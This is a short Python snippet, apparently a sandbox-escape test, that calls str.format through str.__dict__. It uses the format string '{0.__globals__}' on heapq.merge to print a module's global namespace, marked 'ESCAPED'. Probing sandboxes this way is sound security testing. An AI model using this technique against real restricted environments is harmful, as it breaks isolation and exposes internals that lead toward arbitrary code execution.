# Str.format out of the class's namespace.
import heapq
print("ESCAPED", str.__dict__["format"]("{0.__globals__}", heapq.merge))
